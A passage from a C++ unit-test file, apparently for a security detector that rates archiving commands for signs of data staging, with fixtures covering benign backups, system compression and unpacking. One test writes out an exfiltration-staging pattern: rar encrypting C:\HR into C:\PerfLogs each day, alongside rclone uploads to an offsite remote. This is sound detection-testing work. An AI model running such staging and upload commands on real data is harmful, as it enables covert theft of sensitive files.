       hand_made(FactKind::archive_trace, at(3), "C:\\Users\\eve\\Downloads\\x.rar", "h-1",
                 {{"source", "winrar"}, {"user", "eve"}, {"act", "archive_opened"}})});
  EXPECT_THAT(run.context->findings, IsEmpty()) << fake::summary_of(run.context->findings);
}

TEST(WinRarInnocent, BackupsAreLowAtTheMost) {
  std::vector<Fact> facts;
  for (int day = 0; day < 7; ++day) {
    const std::string date = "2024-03-0" + std::to_string(day + 1);
    facts.push_back(process_fact(at(day * kDaySeconds), "C:\\Program Files\\7-Zip\\7z.exe",
                                 "7z a -pS3cret -mhe -v1g D:\\Backup\\" + date + ".7z D:\\Data"));
    facts.push_back(process_fact(at(day * kDaySeconds + 600), "C:\\Tools\\rclone.exe",
                                 "rclone copy D:\\Backup\\" + date + ".7z.001 offsite:b"));
  }
  const auto run = judge_winrar(std::move(facts));
  EXPECT_LE(highest(run), Severity::low) << fake::summary_of(run.context->findings);
  EXPECT_THAT(run.context->findings, SizeIs(1));
}

TEST(WinRarStaging, ARoutineInAHiddenPlaceIsNoBackup) {
  std::vector<Fact> facts;
  facts.reserve(4);
  for (int day = 0; day < 4; ++day)
    facts.push_back(
        process_fact(at(day * kDaySeconds), "C:\\T\\rar.exe",
                     "rar a -hpX C:\\PerfLogs\\" + std::to_string(day) + ".rar C:\\HR"));
  EXPECT_GE(highest(judge_winrar(std::move(facts))), Severity::high);
}

TEST(WinRarInnocent, AnAdministratorsEncryptedArchiveIsLow) {
  const auto run = judge_winrar({process_fact(
      at(0), "C:\\Tools\\rar.exe", "rar a -hpX -v100m D:\\Transfer\\customer.rar D:\\Customer")});
  EXPECT_LE(highest(run), Severity::low) << fake::summary_of(run.context->findings);
}

TEST(WinRarInnocent, WhatProgramsAndWindowsPackForThemselvesIsSilent) {
  const auto run = judge_winrar(
      {process_fact(
           at(0), "C:\\Users\\eve\\App\\7za.exe",
           "7za a C:\\Users\\eve\\AppData\\Local\\Temp\\crash.7z C:\\Users\\eve\\App\\logs"),
       process_fact(at(0), "C:\\Windows\\System32\\makecab.exe",
                    "makecab C:\\Windows\\Logs\\CBS\\CbsPersist.log C:\\Windows\\Logs\\CBS\\x.cab"),
       process_fact(at(0), "C:\\Windows\\System32\\tar.exe", "tar -czf D:\\src\\x.tgz D:\\src\\x"),
       hand_made(
           FactKind::script, at(0), "", "s-1",
           {{"ScriptBlockText", "Compress-Archive -Path C:\\logs -DestinationPath D:\\l.zip"}})});
  EXPECT_THAT(run.context->findings, IsEmpty()) << fake::summary_of(run.context->findings);
}

TEST(WinRarInnocent, WhatUnpacksIsNone) {
  const auto run = judge_winrar(
      {process_fact(at(0), "C:\\Windows\\Temp\\unrar.exe", "unrar x -hpX C:\\PerfLogs\\1.rar"),
       process_fact(at(0), "C:\\Windows\\Temp\\7z.exe", "7z x -pX C:\\Windows\\Temp\\1.7z")});
  EXPECT_THAT(run.context->findings, IsEmpty()) << fake::summary_of(run.context->findings);
}

}  // namespace
}  // namespace hozen
